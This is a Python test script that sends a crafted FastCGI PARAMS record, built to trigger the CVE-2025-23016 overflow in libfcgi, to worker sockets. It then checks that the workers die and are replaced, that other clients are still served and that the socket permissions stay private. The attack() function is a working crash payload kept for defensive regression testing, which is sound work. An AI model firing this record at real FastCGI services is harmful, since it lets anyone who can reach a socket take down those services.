# SPDX-License-Identifier: ISC
"""A FastCGI record that kills the worker that reads it, sent straight to
the program's unix socket, as anyone who can connect to it could.

Debian 12's libfcgi (2.4.2 with the first fix of CVE-2025-23016 only)
aborts on an FCGI_PARAMS record whose name and value lengths are both
0x7FFFFFFE: their int sum overflows and an assertion in its Malloc fails.
The sockets are the web server's business: lighttpd
makes the one named by "socket" in httpd-conf/lighttpd-collab-auth.conf
(plus "-N" per process), mod_fcgid makes its own under FcgidIPCDir.  The
test finds them from the processes (descriptor 0 of each is its listening
socket), sends the record to one process, then to every other one of the
program, and checks that:

- the process that read the record died, and its failed assertion
  is in the log (the record did what the library notes say);
- the web server started another, without being told;
- requests sent meanwhile from other clients were all answered, each by
  a program (its JSON), but those the web server had handed to a worker
  just as it died (queued on its socket): these are lost with it, and
  the web server answers them with its own error page (lighttpd's 500).

So the socket is a way to kill workers at will, and more (whoever can
connect may also set REMOTE_ADDR or any header): it must stay private
(README, "FastCGI sockets"; the comments of the shipped configs).

Runs under lighttpd and Apache with mod_fcgid; under mod_cgi there is no
FastCGI socket (a program reads its request from a pipe).  Under nginx the
workers of a program share one socket made for the pool, which the web
server's group must reach (mode 0660): only its mode is checked here, and
tests/endpoint/test_pool.py shows a worker killed this way replaced."""

import os
import socket
import struct
import threading
import time

from harness import (TAP, env, header_problems, listen_socket, pooled,
                     program_log, program_pids, request, server)

PROG = "auth-register"
PATH = "/api/auth/register"
INVALID = {"email": "not an address"}
WAIT = 30                       # seconds for a worker to die or start


def record(rtype, content, request_id=1):
    """One FastCGI record (FastCGI 1.0 spec, section 3.3)."""
    return struct.pack(">BBHHBB", 1, rtype, request_id, len(content), 0,
                       0) + content


def attack(path):
    """Connect to the FastCGI socket at path and send FCGI_BEGIN_REQUEST
    (responder) and the FCGI_PARAMS record; return what came back before
    the connection closed."""
    begin = record(1, struct.pack(">HB5x", 1, 0))
    params = record(4, struct.pack(">II", 0xFFFFFFFE, 0xFFFFFFFE) + b"x" * 8)
    got = b""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(WAIT)
        s.connect(path)
        s.sendall(begin + params)
        try:
            while True:
                chunk = s.recv(4096)
                if not chunk:
                    break
                got += chunk
        except (socket.timeout, ConnectionResetError):
            pass
    return got


def alive(pid):
    try:
        with open("/proc/%d/stat" % pid) as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def wait_for(cond, timeout=WAIT):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        v = cond()
        if v:
            return v
        time.sleep(0.1)
    return cond()


class Clients:
    """Other clients, sending a request that a program answers 422 to,
    two at a time, until stopped; every answer kept."""

    def __init__(self):
        self.answers = []
        self.stop = threading.Event()
        self.threads = [threading.Thread(target=self.run) for _ in range(2)]
        for th in self.threads:
            th.start()

    def run(self):
        while not self.stop.is_set():
            t0 = time.monotonic()
            try:
                # Not kept for test_openapi.py: a worker killed behind
                # the web server costs an answer outside the API.
                a = request("POST", PATH, INVALID, timeout=WAIT, keep=False)
            except Exception as e:
                a = e
            self.answers.append((t0, time.monotonic(), a))
            self.stop.wait(0.05)

    def end(self):
        self.stop.set()
        for th in self.threads:
            th.join(WAIT + 5)
        return self.answers


def configured_socket():
    """The "socket" of the register program in the shipped lighttpd
    snippet, as this run uses it."""
    with open(env("AUTH_TEST_LIGHTTPD_CONF")) as f:
        text = f.read()
    i = text.index('"%s" =>' % PATH, text.index("fastcgi.server"))
    j = text.index('"socket" => "', i) + len('"socket" => "')
    return text[j:text.index('"', j)]


def main():
    t = TAP()
    if server() == "apache-cgi":
        t.ok(True, "# SKIP plain CGI has no FastCGI socket")
        t.done()
    # mod_fcgid starts processes on demand: make sure there are some.
    for _ in range(2):
        request("POST", PATH, INVALID)
    before = wait_for(lambda: program_pids(PROG), 10)
    socks = {pid: listen_socket(pid) for pid in before}
    t.ok(before and all(socks.values()), "%d %s process(es), each "
         "accepting on a unix socket" % (len(before), PROG), socks)
    modes = {p: oct(os.stat(p).st_mode & 0o777) for p in socks.values()
             if p}
    if pooled():
        t.ok(modes and all(int(m, 8) & 0o002 == 0 for m in modes.values()),
             "only the pool's user and the web server's group may connect "
             "to the pool's socket (no other write)", modes)
        t.ok(True, "# SKIP the workers share one socket: test_pool.py "
             "kills one through it and sees it replaced")
        t.done()
    t.ok(modes and all(int(m, 8) & 0o022 == 0 for m in modes.values()),
         "only the sockets' owner may connect to them (no group or "
         "other write)", modes)
    if server() == "lighttpd":
        want = configured_socket()
        t.ok(all(p.startswith(want + "-") for p in socks.values()),
             "the sockets are the shipped config's %s-N" % want, socks)
    log0 = len(program_log())
    clients = Clients()
    victims = []
    dying = []          # (attack sent, victims seen dead) per round
    try:
        # One worker first, with its siblings alive; then every other
        # one, so that only new workers can answer.
        rounds = [before[:1], before[1:]] if len(before) > 1 else [before]
        for n, group in enumerate(rounds, 1):
            t0 = time.monotonic()
            for pid in group:
                attack(socks[pid])
                victims.append(pid)
            dead = wait_for(lambda: not any(alive(p) for p in group))
            dying.append((t0, time.monotonic()))
            t.ok(dead, "round %d: the worker(s) that read the record died "
                 "(%s)" % (n, group))
            # lighttpd keeps max-procs workers and replaces a dead one at
            # once; mod_fcgid starts one when a request finds none idle:
            # surely once every worker is dead.
            if server() == "lighttpd" or n == len(rounds):
                fresh = wait_for(lambda: [p for p in program_pids(PROG)
                                          if p not in before])
                t.ok(fresh, "round %d: the web server started another "
                     "worker (%s)" % (n, fresh))
            time.sleep(1)
    finally:
        answers = clients.end()
    aborts = program_log()[log0:].count("Assertion")
    t.ok(aborts >= len(victims), "each victim's abort is in the log: "
         "libfcgi's failed assertion (%d of %d)" % (aborts, len(victims)))

    def program_answer(a):
        return (not isinstance(a, Exception) and a.status == 422 and
                not header_problems(a) and
                isinstance(a.json.get("detail"), list))

    # A request the web server handed to a worker just as it died (into
    # the backlog of its socket) is lost with it: the web server answers
    # it with its own error.  Every other one must be a program's answer.
    def overlaps(t0, t1):
        return any(t0 <= d1 + 0.2 and t1 >= a0 for a0, d1 in dying)

    inside = [a for t0, t1, a in answers if overlaps(t0, t1)]
    outside = [a for t0, t1, a in answers if not overlaps(t0, t1)]
    bad = [a for a in outside if not program_answer(a)]
    t.ok(len(outside) >= 10 and not bad, "other clients meanwhile: all %d "
         "requests but those in flight as a worker died were answered by "
         "a program (its JSON 422)" % len(outside),
         *[repr(a) for a in bad[:5]])
    lost = [a for a in inside if not program_answer(a)]
    t.ok(len(lost) <= 2 * len(victims) and all(
        not isinstance(a, Exception) and a.status >= 500 for a in lost),
        "of the %d in flight as a worker died, %d lost with it (at most "
        "one per client and worker), answered by the web server's error"
        % (len(inside), len(lost)), *[repr(a) for a in lost[:5]])
    after = request("POST", PATH, INVALID)
    t.ok(after.status == 422, "afterwards %s answers as before" % PROG,
         repr(after))
    t.done()


if __name__ == "__main__":
    main()
